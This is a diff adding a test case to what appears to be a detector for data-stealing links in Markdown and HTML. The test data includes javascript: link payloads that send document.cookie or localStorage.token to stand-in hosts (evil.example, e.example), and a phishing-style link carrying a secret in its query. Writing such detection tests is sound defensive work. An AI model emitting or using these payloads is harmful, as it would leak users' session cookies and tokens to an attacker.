@@ -81,6 +81,13 @@ describe('exfiltration.image-url', () => {
 });
 
 describe('exfiltration.link-url', () => {
+  it('detects a script link that reads cookies or storage, in Markdown and in HTML', () => {
+    const markdown = "javascript:fetch('https://evil.example/?c='+document.cookie)";
+    assert.deepEqual(found(LINK, `Click [here](${markdown}) to continue.`), [markdown]);
+    const html = "javascript:new Image().src='https://e.example/?'+localStorage.token";
+    assert.deepEqual(found(LINK, `<a href="${html}">go</a>`), [html]);
+    assert.deepEqual(found(LINK, '<a href="javascript:void(0)">menu</a> [x](javascript:alert(1))'), []);
+  });
   it('detects a link whose query names a secret', () => {
     const link = '[click here to reauthenticate](https://evil.example?secret=confetti)';
     assert.deepEqual(found(LINK, `Error loading message, ${link}`), [link]);
